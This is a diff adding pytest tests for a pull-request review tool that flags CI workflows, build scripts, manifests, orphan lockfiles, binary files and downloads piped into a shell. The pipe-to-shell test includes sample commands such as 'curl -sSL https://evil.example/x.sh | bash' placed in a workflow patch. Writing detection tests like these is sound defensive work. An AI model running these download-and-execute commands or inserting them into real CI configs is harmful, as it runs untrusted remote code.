@@ -1,0 +1,124 @@
+"""Sensitive-path rules: each kind of file a reviewer should look at, as features, facts and annotations."""
+from __future__ import annotations
+
+import pytest
+
+from prguard import features, paths
+from prguard.features import FEATURE_NAMES, build_profile, extract, profile_stats
+
+
+def with_files(*files: dict, **overrides) -> dict:
+    doc = {
+        "number": 1, "title": "Change", "body": "Why.", "user": {"login": "bob"}, "author_association": "MEMBER",
+        "created_at": "2024-01-02T09:00:00Z", "updated_at": "2024-01-02T09:00:00Z",
+        "head": {"ref": "topic", "sha": "1" * 40, "repo": {"full_name": "acme/app"}},
+        "base": {"ref": "main", "repo": {"full_name": "acme/app", "default_branch": "main"}},
+        "additions": sum(f.get("additions", 0) for f in files), "deletions": 0, "changed_files": len(files),
+        "commits": 1, "files": list(files),
+    }
+    doc.update(overrides)
+    return doc
+
+
+def changed(path, additions=3, deletions=1, status="modified", patch="@@ -1 +1 @@\n-a\n+b") -> dict:
+    item = {"filename": path, "status": status, "additions": additions, "deletions": deletions,
+            "changes": additions + deletions}
+    if patch is not None:
+        item["patch"] = patch
+    return item
+
+
+def values(doc) -> dict[str, float]:
+    return dict(zip(FEATURE_NAMES, extract(doc, None)))
+
+
+@pytest.mark.parametrize("path,feature,reason", [
+    (".github/workflows/release.yml", "touches_ci", "CI workflow"),
+    (".github/actions/setup/action.yml", "touches_ci", "CI workflow"),
+    (".gitlab-ci.yml", "touches_ci", "CI workflow"),
+    ("Jenkinsfile", "touches_ci", "CI workflow"),
+    ("Makefile", "touches_build", "build or install script"),
+    ("scripts/release.sh", "touches_build", "build or install script"),
+    ("docker/Dockerfile.prod", "touches_build", "build or install script"),
+    ("setup.py", "touches_build", "build or install script"),
+    ("package.json", "touches_manifest", "dependency manifest"),
+    ("services/api/go.mod", "touches_manifest", "dependency manifest"),
+    ("requirements-dev.txt", "touches_manifest", "dependency manifest"),
+    (".github/CODEOWNERS", "touches_policy", "policy file"),
+    ("SECURITY.md", "touches_policy", "policy file"),
+    (".github/dependabot.yml", "touches_policy", "policy file"),
+    (".gitmodules", "touches_policy", "policy file"),
+])
+def test_each_sensitive_path_rule(path, feature, reason):
+    doc = with_files(changed(path), changed("src/app.py"))
+    assert values(doc)[feature] == 1.0
+    assert values(with_files(changed("src/app.py")))[feature] == 0.0
+    assert dict(features.sensitive_files(doc))[path].count(reason) == 1
+    assert path in features.explain(feature, doc, None)
+
+
+def test_ordinary_files_are_not_sensitive():
+    doc = with_files(changed("src/app.py"), changed("README.md"), changed("docs/img/logo.png", 0, 0, patch=None),
+                     changed("tests/test_app.py"), changed("config/dependabot.yml"))
+    assert features.sensitive_files(doc) == []
+    assert all(values(doc)[name] == 0.0 for name in ("touches_ci", "touches_build", "touches_manifest",
+                                                     "touches_policy", "log_binary_files", "sensitive_rarity"))
+
+
+def test_lockfile_without_its_manifest():
+    lock_only = with_files(changed("package-lock.json", 40, 40))
+    with_manifest = with_files(changed("package.json", 1, 1), changed("package-lock.json", 40, 40))
+    other_dir = with_files(changed("web/package.json"), changed("package-lock.json"))
+    assert values(lock_only)["lockfile_without_manifest"] == 1.0
+    assert values(with_manifest)["lockfile_without_manifest"] == 0.0
+    assert values(other_dir)["lockfile_without_manifest"] == 1.0  # a manifest elsewhere does not count
+    assert ("package-lock.json", "lockfile changed without its manifest") in features.sensitive_files(lock_only)
+    assert features.explain("lockfile_without_manifest", lock_only, None) == \
+        "changes a lockfile without its manifest (package-lock.json)"
+    assert paths.orphan_lockfiles(["go.sum", "go.mod"]) == []
+    assert paths.orphan_lockfiles(["svc/Cargo.lock"]) == ["svc/Cargo.lock"]
+
+
+def test_binary_files_by_extension_and_by_githubs_missing_patch():
+    blob = with_files(changed("tests/files/bad-3.xz", 0, 0, status="added", patch=None))
+    unknown_ext = with_files(changed("tests/data/payload.thing", 0, 0, status="added", patch=None))
+    image = with_files(changed("docs/diagram.png", 0, 0, status="added", patch=None))
+    huge_text = with_files(changed("data/big.csv", 9000, 0, status="added", patch=None))  # diff too large
+    assert values(blob)["log_binary_files"] > 0 and values(unknown_ext)["log_binary_files"] > 0
+    assert values(image)["log_binary_files"] == 0.0 and values(huge_text)["log_binary_files"] == 0.0
+    assert features.explain("log_binary_files", blob, None) == "adds or changes 1 binary file (tests/files/bad-3.xz)"
+
+
+def test_download_piped_into_a_shell():
+    patch = "@@ -10,2 +10,4 @@\n   steps:\n+      - run: curl -sSL https://evil.example/x.sh | bash\n"
+    doc = with_files(changed(".github/workflows/ci.yml", 1, 0, patch=patch))
+    removed = with_files(changed(".github/workflows/ci.yml", 0, 1, patch="@@ -1 +0,0 @@\n-curl x | sh"))
+    assert values(doc)["pipes_to_shell"] == 1.0 and values(removed)["pipes_to_shell"] == 0.0
+    reasons = dict(features.sensitive_files(doc))[".github/workflows/ci.yml"]
+    assert "CI workflow" in reasons and "pipes a download into a shell" in reasons
+    for line in ("wget -qO- https://x.io/i | sudo sh", "bash <(curl -s https://x.io/i)",
+                 "echo aGk= | base64 -d | sh"):
+        assert paths.pipes_to_shell(f"@@ -1 +1 @@\n+{line}"), line
+    assert not paths.pipes_to_shell("@@ -1 +1 @@\n+curl -o out.tgz https://x.io/a.tgz")
+
+
+def test_sensitive_rarity_depends_on_how_often_this_repository_does_it():
+    ci_change = with_files(changed(".github/workflows/ci.yml"))
+    ordinary = with_files(changed("src/app.py"))
+    ci_heavy = build_profile("acme/app", [profile_stats(ci_change)] * 60 + [profile_stats(ordinary)] * 40)
+    ci_rare = build_profile("acme/app", [profile_stats(ordinary)] * 500)
+    rare_here = dict(zip(FEATURE_NAMES, extract(ci_change, ci_rare)))["sensitive_rarity"]
+    routine_here = dict(zip(FEATURE_NAMES, extract(ci_change, ci_heavy)))["sensitive_rarity"]
+    assert routine_here < 0.15 < 0.5 < rare_here
+    assert "under 1% of PRs here" in features.explain("sensitive_rarity", ci_change, ci_rare)
+
+
+def test_facts_list_the_sensitive_files():
+    doc = with_files(changed(".github/workflows/ci.yml"), changed("yarn.lock"), changed("CODEOWNERS"))
+    facts = features.facts(doc)
+    assert facts["ci_files"] == [".github/workflows/ci.yml"]
+    assert facts["lockfiles_without_manifest"] == ["yarn.lock"] and facts["policy_files"] == ["CODEOWNERS"]
+    assert facts["files_known"] is True and facts["directories"] == 2
+    no_files = dict(doc)
+    del no_files["files"]
+    assert features.facts(no_files)["ci_files"] is None and features.sensitive_files(no_files) == []
